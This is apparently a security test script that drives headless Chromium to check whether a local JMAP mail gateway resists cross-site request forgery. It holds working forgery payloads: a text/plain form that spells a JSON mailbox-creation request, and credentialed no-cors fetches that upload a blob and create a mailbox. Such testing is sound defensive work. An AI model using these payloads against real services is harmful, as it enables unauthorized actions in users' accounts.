"""Cross-site request forgery against the JMAP endpoints in a real browser: headless Chromium
(Debian's chromium and chromium-driver) driven by Selenium (PyPI).
Usage: csrf_browser.py PORT USER PASSWORD ACCOUNT_ID BLOB_ID ATTACKER_PORT; prints one JSON object.

The browser is made to hold the user's Basic credentials for the gateway as if it had cached
them (DevTools adds the Authorization header to every request it makes, which is what a
browser does with credentials it remembers), then opens a page of another site (a server on
ATTACKER_PORT, another origin) that:
  - posts a form with enctype=text/plain to /jmap/api/ whose one field spells a JSON request
    creating the mailbox "Forged by form" (the classic text/plain JSON forgery);
  - before that, uploads a blob with fetch(no-cors, credentials), sends the same way a JSON
    body without a content type creating "Forged by fetch", and loads the download URL of
    BLOB_ID as an image.
Also navigates, with no credentials, to /.well-known/jmap: which challenge the browser got.
Reports the status and the text of what the form's navigation showed, and the responses the
browser saw (from Chrome's performance log).
"""
import base64
import http.server
import json
import sys
import threading

from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.support.ui import WebDriverWait

port, user, password, account, blob, attacker_port = sys.argv[1:]
target = f"https://127.0.0.1:{port}"
request_json = json.dumps({
    "using": ["urn:ietf:params:jmap:core", "urn:ietf:params:jmap:mail"],
    "methodCalls": [["Mailbox/set", {"accountId": account,
                                     "create": {"f": {"name": "Forged by form"}}}, "c"]],
})
# text/plain forms send `name=value`: the name holds the JSON up to a string whose value
# swallows the `=`.
split = request_json.index("Forged by form") + len("Forged by form")
field_name, field_value = request_json[:split], request_json[split:]
fetch_body = request_json.replace("Forged by form", "Forged by fetch")
page = f"""<!doctype html><html><body>
<form id="f" method="POST" action="{target}/jmap/api/" enctype="text/plain">
<input type="hidden" name='{field_name}' value='{field_value}'>
</form>
<img src="{target}/jmap/download/{account}/{blob}/x?accept=image/png">
<script>
fetch("{target}/jmap/upload/{account}/", {{method: "POST", mode: "no-cors", credentials: "include",
  body: "uploaded by another site"}})
  .catch(() => null)
  .then(() => fetch("{target}/jmap/api/", {{method: "POST", mode: "no-cors", credentials: "include",
    body: new Blob([{json.dumps(fetch_body)}])}}))
  .catch(() => null)
  .finally(() => document.getElementById("f").submit());
</script>
</body></html>""".encode()


class Attacker(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def log_message(self, *_):
        pass


attacker = http.server.ThreadingHTTPServer(("127.0.0.1", int(attacker_port)), Attacker)
threading.Thread(target=attacker.serve_forever, daemon=True).start()

options = webdriver.ChromeOptions()
options.binary_location = "/usr/bin/chromium"
for flag in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
             "--ignore-certificate-errors"):
    options.add_argument(flag)
options.set_capability("goog:loggingPrefs", {"performance": "ALL"})
driver = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)
out = {}


def responses():
    """(method, url, status, headers) of every response the browser saw, in order."""
    sent, seen = {}, []
    for entry in driver.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        params = message.get("params", {})
        if message.get("method") == "Network.requestWillBeSent":
            sent[params["requestId"]] = params["request"]["method"]
        elif message.get("method") == "Network.responseReceived":
            response = params["response"]
            headers = {k.lower(): v for k, v in response.get("headers", {}).items()}
            seen.append({"method": sent.get(params["requestId"]), "url": response["url"],
                         "status": response["status"], "headers": headers})
    return seen


try:
    driver.execute_cdp_cmd("Network.enable", {})
    # A browser page opened on the gateway with no credentials: which challenge comes back.
    driver.get(f"{target}/.well-known/jmap")
    out["unauthenticated"] = [r for r in responses() if r["url"].endswith("/.well-known/jmap")]

    basic = base64.b64encode(f"{user}:{password}".encode()).decode()
    driver.execute_cdp_cmd("Network.setExtraHTTPHeaders",
                           {"headers": {"Authorization": f"Basic {basic}"}})
    driver.get(f"http://127.0.0.1:{attacker_port}/")
    WebDriverWait(driver, 30).until(lambda d: d.current_url.startswith(target))
    WebDriverWait(driver, 30).until(
        lambda d: d.execute_script("return document.readyState") == "complete")
    out["landed"] = driver.current_url
    out["shown"] = driver.execute_script("return document.body ? document.body.innerText : ''")
    out["responses"] = [r for r in responses() if r["url"].startswith(target)]
finally:
    driver.quit()
    attacker.shutdown()
print(json.dumps(out))
